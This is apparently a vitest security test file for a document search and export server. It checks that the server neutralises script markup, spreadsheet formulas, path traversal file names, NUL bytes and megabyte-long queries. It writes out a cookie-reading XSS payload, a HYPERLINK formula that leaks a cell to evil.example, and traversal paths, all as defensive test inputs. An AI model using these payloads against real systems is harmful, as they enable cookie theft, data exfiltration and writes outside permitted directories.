import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { pdfOf } from '../ingest/bytes.ts'
import { startServer } from './kit.ts'
import { indexedDocument } from './register-kit.ts'

const script = '<script>alert(document.cookie)</script>'
const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
const text = `# ${script} The ferries

${formula} 5,250 ferry workers crossed in Mali in 2015. ${script}

The ${script} River project (RIVERS), 2015-2018, funded by the Swiss Agency for Development and Cooperation (SDC), works in Mali.`

const places = (id: string) => [
  `/documents/${id}?include=mentions`,
  '/documents',
  `/documents/${id}/pages/1`,
  `/documents/${id}/citation`,
  `/search?q=ferry&document=${id}`,
  `/search?q=${encodeURIComponent(script)}`,
  `/suggest?q=${encodeURIComponent('<script')}`,
  `/feeds/search.atom?q=ferry&document=${id}`,
  `/feeds/search.json?q=ferry&document=${id}`,
  `/feeds/search.atom?q=${encodeURIComponent(script)}`,
  ...['projects', 'figures', 'countries', 'organisations'].flatMap((register) => [
    `/${register}?document=${id}`,
    `/feeds/${register}.atom?document=${id}`,
    `/export/${register}.csv?document=${id}`,
    `/export/${register}.jsonl?document=${id}`,
  ]),
  `/export/search.csv?document=${id}`,
  `/export/projects.iati.xml?document=${id}`,
  `/projects/${encodeURIComponent(script)}`,
  `/${encodeURIComponent(script)}`,
]

test('markup in text, title and name is never sent as something that a browser would run', async () => {
  const { ask, store } = await startServer()
  const { documentId } = await indexedDocument(store, { name: `${script}.pdf`, text })
  for (const place of places(documentId)) {
    const { headers, ...response } = await ask(place).then(async (answer) => ({
      headers: answer.headers,
      body: await answer.text(),
    }))
    const type = headers.get('content-type')!
    expect(type, place).not.toMatch(/html|javascript|svg/)
    expect(headers.get('x-content-type-options'), place).toBe('nosniff')
    expect(headers.get('content-security-policy'), place).toContain("default-src 'none'")
    if (type.includes('xml')) expect(response.body, place).not.toContain('<script')
  }
})

test('a formula in a document is text in every cell of every export', async () => {
  const { ask, store } = await startServer()
  const { documentId } = await indexedDocument(store, { name: `${formula}.pdf`, text })
  for (const file of ['search', 'projects', 'figures', 'countries', 'organisations']) {
    const csv = await (await ask(`/export/${file}.csv?document=${documentId}`)).text()
    if (file === 'search') expect(csv).toContain('HYPERLINK')
    expect(csv, file).not.toMatch(/(?:^|[,\n])"?[=+@\t]/)
  }
})

const outside = [
  '../../../../escaped.pdf',
  '..\\..\\escaped.pdf',
  '/etc/escaped.pdf',
  'a/../../escaped.pdf',
  '..',
  'C:\\escaped.pdf',
]

test('a file whose name leads elsewhere is kept under its hash, and called by the last part of it', async () => {
  const { json, ask, parts } = await startServer()
  for (const name of outside) {
    const { body } = await json(`/documents?name=${encodeURIComponent(name)}`, {
      method: 'POST',
      headers: { 'content-type': 'application/pdf' },
      body: new Uint8Array(Buffer.from(pdfOf(`named ${name}`))),
    })
    const { documentId } = body.files[0]
    const { names } = (await json(`/documents/${documentId}`)).body
    expect(names[0]).not.toMatch(/[/\\]/)
    const path = parts.store.originalPath(documentId)
    expect(path).toMatch(new RegExp(`/documents/${documentId.slice(0, 2)}/${documentId}/[a-z.]+$`))
    expect(readdirSync(join(path, '..')).filter((file) => file.includes('escaped'))).toEqual([])
    const disposition = (await ask(`/documents/${documentId}/file`)).headers.get('content-disposition')!
    expect(disposition).toMatch(/^attachment; /)
    expect(disposition).not.toMatch(/[/\\]|%2F|%5C/i)
  }
})

const withNul = [
  '/search?q=%00',
  '/search?country=%00',
  '/suggest?q=%00',
  '/documents?name=%00',
  '/documents/%00',
  '/projects/%00',
  '/projects?q=a%00b',
  '/feeds/search.atom?q=%00',
  '/feeds/projects.json?q=%00',
  '/export/search.csv?q=%00',
  '/search?cursor=%00',
]

test('NUL in an address is refused', async () => {
  const { ask } = await startServer()
  for (const place of withNul) expect([400, 404], place).toContain((await ask(place)).status)
})

test('NUL in the name, the title and the text of a document harms nothing', async () => {
  const { json, store } = await startServer()
  const { documentId } = await indexedDocument(store, {
    name: 'nul\u0000.pdf',
    text: '# Title\u0000 of it\n\nGlaciers\u0000 and 5,250 ferry workers in Mali in 2015.',
  })
  const { body } = await json(`/search?q=ferry&document=${documentId}`)
  expect(body.documentCount).toBe(1)
  expect((await json(`/figures?document=${documentId}`)).body.total).toBeGreaterThan(0)
})

test('a query of a megabyte is refused, wherever it stands', async () => {
  const { json } = await startServer()
  const long = 'x'.repeat(1_000_000)
  const post = (body: unknown) => ({
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })
  const search = { name: 'long', query: { q: long }, webhook: 'https://example.org/' }
  expect((await json('/searches', post(search))).body.code).toBe('query-invalid')
  expect((await json('/searches', post({ ...search, more: long }))).body.code).toBe('request-too-large')
  // longer than what one may ask, and shorter than what is no request any more
  expect((await json(`/search?q=${long.slice(0, 10_000)}`)).body.code).toBe('query-invalid')
})
